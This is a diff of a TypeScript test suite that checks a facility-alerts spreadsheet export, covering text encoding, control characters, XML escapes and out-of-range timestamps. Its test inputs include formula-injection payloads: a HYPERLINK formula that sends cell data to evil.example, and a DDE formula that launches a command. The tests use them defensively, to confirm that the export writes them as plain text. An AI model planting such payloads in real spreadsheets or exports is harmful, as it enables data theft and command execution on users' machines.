@@ -15,23 +15,23 @@ beforeAll(async () => {
 });
 afterAll(() => gateway.close());
 
-/** The export of a facility, from the first year to the last. */
+/** Exports all alerts of a facility. */
 async function exported(facilityId: string): Promise<Buffer> {
   const query = `filter: { start: "0001-01-01T00:00:00Z", end: "9999-12-31T23:59:59.999Z", facilityId: "${facilityId}" }`;
   const { exportAlerts } = await gateway.data<{ exportAlerts: { url: string } }>(`{ exportAlerts(${query}) { url } }`, { as: reader });
   return fileOf(await gateway.fetch(exportAlerts.url.slice(new URL(exportAlerts.url).origin.length)));
 }
 
-/** Rows by the ids of their alerts. */
+/** The rows by alert id. */
 const byId = (rows: ExportedRow[]) => new Map(rows.map((row) => [row["Alert id"] as string, row]));
 
-/** What both libraries make of a file. */
+/** The rows of a file as both libraries read them. */
 async function readByBoth(file: Buffer): Promise<Map<string, ExportedRow>[]> {
   const [sheet] = (await workbookOf(file)).worksheets;
   return [byId(await exportedRows(file)), byId(await exportedRows(exceljsRows(sheet)))];
 }
 
-/** Texts, and how they are shown where that is not as they are. */
+/** Texts, and how they are shown if that differs. */
 const texts: [what: string, text: string, shown?: string][] = [
   ["a sum", "=1+1"],
   ["a plus sign", "+1+1"],
@@ -39,35 +39,35 @@ const texts: [what: string, text: string, shown?: string][] = [
   ["an at sign", "@SUM(A1:A9)"],
   ["a link as a formula", '=HYPERLINK("https://evil.example/?x="&A1,"Open picture")'],
   ["a command as a formula", "=cmd|' /C calc'!A0"],
-  ["a formula behind a tab", "\t=1+1"],
-  ["a formula behind a line break", "\n=1+1"],
-  ["a formula behind an apostrophe", "'=1+1"],
+  ["a formula after a tab", "\t=1+1"],
+  ["a formula after a line break", "\n=1+1"],
+  ["a formula after an apostrophe", "'=1+1"],
   ["a number", "007"],
   ["a number with an exponent", "1e5"],
-  ["a truth", "TRUE"],
+  ["a boolean", "TRUE"],
   ["a date", "2026-11-20"],
   ["an error", "#REF!"],
   ["a link", "https://pictures.example/1.jpg"],
   ["markup", `<b title="x">'bold'</b> & &#65; ]]> <![CDATA[x]]>`],
   ["emoji", "🎥👷🏽‍♀️ 1️⃣"],
-  ["letters from right to left, with their marks", "\u202eشاحنة\u202c \u200fעברית"],
-  ["letters with accents put together and apart", "é e\u0301 ö"],
-  ["spaces around", "  two before, two after  "],
-  ["nothing but a space", " "],
+  ["right-to-left text with direction marks", "\u202eشاحنة\u202c \u200fעברית"],
+  ["composed and decomposed accents", "é e\u0301 ö"],
+  ["leading and trailing spaces", "  two before, two after  "],
+  ["a single space", " "],
   ["line breaks and a tab", "one\ntwo\n\nthree\tfour"],
-  ["line breaks of other systems", "one\r\ntwo\rthree\n\rfour", "one\ntwo\nthree\n\nfour"],
+  ["line breaks of other platforms", "one\r\ntwo\rthree\n\rfour", "one\ntwo\nthree\n\nfour"],
   ["control characters", "a\u0001b\u0008c\u000bd\u000ce\u001bf\u001fg", "a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf\ufffdg"],
   ["the last control character", "a\u007fb", "a\ufffdb"],
-  ["characters that are none", "a\ufffeb\uffffc", "a\ufffdb\ufffdc"],
+  ["noncharacters", "a\ufffeb\uffffc", "a\ufffdb\ufffdc"],
   ["a byte order mark, a line separator and a next line", "a\ufeffb\u2028c\u0085d"],
-  ["what looks like the number of a character", "_x0041_"],
-  ["what looks like such a number itself", "_x005F_x0041_"],
-  ["several of them, sharing their edges", "_x0041_x000d_X0042_x0x0043_"],
-  ["as many characters as a cell takes", "x".repeat(32_767)],
-  ["more characters than a cell takes", "x".repeat(40_000), "x".repeat(32_767)],
+  ["what looks like a character escape", "_x0041_"],
+  ["what looks like an escaped character escape", "_x005F_x0041_"],
+  ["overlapping character escapes", "_x0041_x000d_X0042_x0x0043_"],
+  ["the maximum length of a cell", "x".repeat(32_767)],
+  ["more than the maximum length of a cell", "x".repeat(40_000), "x".repeat(32_767)],
 ];
 
-describe("a text is that text to both libraries:", () => {
+describe("both libraries read a text unchanged:", () => {
   const facilityId = randomUUID();
   let ids: string[];
   let libraries: Map<string, ExportedRow>[];
@@ -86,14 +86,14 @@ describe("a text is that text to both libraries:", () => {
     for (const rows of libraries) expect(rows.get(ids[index] as string)?.Type).toBe(shown);
   });
 
-  it("and nothing is a formula", () => {
+  it("nothing is a formula", () => {
     expect(xml).not.toMatch(/<f[ >]/);
     const types = [...xml.matchAll(/<c r="E\d+"[^>]* t="(str|inlineStr)"/g)];
     expect(types).toHaveLength(texts.length + 1);
   });
 });
 
-it("names of facilities, cameras, rules, areas and severities are texts too", async () => {
+it("names of facilities, cameras, rules, areas and severities are texts as well", async () => {
   const odd = (name: string) => `=${name}("\u0001_x0041_")\r\n`;
   const shown = (name: string) => `=${name}("\ufffd_x0041_")\n`;
   const facilityId = await createFacility(gateway.prisma, { workspaceId, name: odd("facility") });
@@ -106,15 +106,15 @@ it("names of facilities, cameras, rules, areas and severities are texts too", as
   const file = await exported(facilityId);
   for (const rows of await readByBoth(file)) {
     const [row] = rows.values();
-    const found = (["Facility", "Camera", "Severity", "Rule", "Areas"] as const).map((name) => row?.[name]);
-    expect(found).toEqual([...["facility", "camera", "severity", "rule"].map(shown), `${shown("one")}, ${shown("two")}`]);
+    const cells = (["Facility", "Camera", "Severity", "Rule", "Areas"] as const).map((name) => row?.[name]);
+    expect(cells).toEqual([...["facility", "camera", "severity", "rule"].map(shown), `${shown("one")}, ${shown("two")}`]);
   }
   expect(await partOf(file, "xl/worksheets/sheet1.xml")).not.toMatch(/<f[ >]/);
 });
 
-describe("moments that calendars of spreadsheets do not have are texts, three hours east of UTC:", () => {
+describe("times that spreadsheet calendars do not support are texts, at UTC+3:", () => {
   const facilityId = randomUUID();
-  const moments: [createdAt: string, utc: Date | string, local: Date | string][] = [
+  const timestamps: [createdAt: string, utc: Date | string, local: Date | string][] = [
     ["0001-01-01T00:00:00.000Z", "0001-01-01T00:00:00.000", "0001-01-01[T ]03:00:00"],
     ["1850-06-01T22:30:00.250Z", "1850-06-01T22:30:00.250", "1850-06-02[T ]01:30:00"],
     ["1900-02-28T20:59:59.999Z", "1900-02-28T20:59:59.999", "1900-02-28[T ]23:59:59"],
@@ -128,36 +128,36 @@ describe("moments that calendars of spreadsheets do not have are texts, three ho
   beforeAll(async () => {
     await createFacility(gateway.prisma, { id: facilityId, workspaceId, timeZoneId: "Etc/GMT-3" });
     const cameraId = await createCamera(gateway.prisma, { workspaceId, facilityId });
-    const alerts = moments.map(([createdAt]) => ({ workspaceId, facilityId, cameraId, createdAt: new Date(createdAt) }));
+    const alerts = timestamps.map(([createdAt]) => ({ workspaceId, facilityId, cameraId, createdAt: new Date(createdAt) }));
     ids = await createAlerts(gateway.prisma, alerts);
     const [sheet] = (await workbookOf(await exported(facilityId))).worksheets;
     rows = byId(await exportedRows(exceljsRows(sheet)));
   });
 
-  it.each(moments.map((moment, index) => [...moment, index] as const))("%s", (_createdAt, utc, local, index) => {
+  it.each(timestamps.map((timestamp, index) => [...timestamp, index] as const))("%s", (_createdAt, utc, local, index) => {
     const row = rows.get(ids[index] as string);
-    // A local time says of no zone that it is its own.
-    const wanted = local instanceof Date ? local : expect.stringMatching(new RegExp(`^${local}(\\.\\d{3})?$`));
-    expect([row?.["UTC time"], row?.["Local time"]]).toEqual([utc, wanted]);
+    // A local time does not name a zone.
+    const expectedLocal = local instanceof Date ? local : expect.stringMatching(new RegExp(`^${local}(\\.\\d{3})?$`));
+    expect([row?.["UTC time"], row?.["Local time"]]).toEqual([utc, expectedLocal]);
   });
 });
 
-describe("a moment whose local year no calendar of spreadsheets has leaves the file whole:", () => {
+describe("a time whose local year no spreadsheet calendar supports does not corrupt the file:", () => {
   it.each([
-    ["the last one, three hours east of UTC", "Etc/GMT-3", "9999-12-31T23:59:59.998Z"],
-    ["the first one, three hours west of UTC", "Etc/GMT+3", "0001-01-01T00:00:00.000Z"],
+    ["the last one, at UTC+3", "Etc/GMT-3", "9999-12-31T23:59:59.998Z"],
+    ["the first one, at UTC-3", "Etc/GMT+3", "0001-01-01T00:00:00.000Z"],
   ])("%s", async (_what, timeZoneId, createdAt) => {
     const facilityId = await createFacility(gateway.prisma, { workspaceId, timeZoneId });
     const cameraId = await createCamera(gateway.prisma, { workspaceId, facilityId });
-    const place = { workspaceId, facilityId, cameraId };
-    const ids = await createAlerts(gateway.prisma, [{ ...place, createdAt: new Date(createdAt) }, place]);
+    const site = { workspaceId, facilityId, cameraId };
+    const ids = await createAlerts(gateway.prisma, [{ ...site, createdAt: new Date(createdAt) }, site]);
     const file = await exported(facilityId);
     expect([...byId(await exportedRows(file)).keys()].sort()).toEqual(ids.sort());
     expect(await partOf(file, "xl/worksheets/sheet1.xml")).not.toContain("NaN");
   });
 });
 
-it("a text that looks like a character of XML is that text", async () => {
+it("a text that looks like an XML entity is that text", async () => {
   // exceljs would decode it twice.
   const facilityId = await createFacility(gateway.prisma, { workspaceId, name: "&amp;&lt;b&gt;" });
   const cameraId = await createCamera(gateway.prisma, { workspaceId, facilityId });
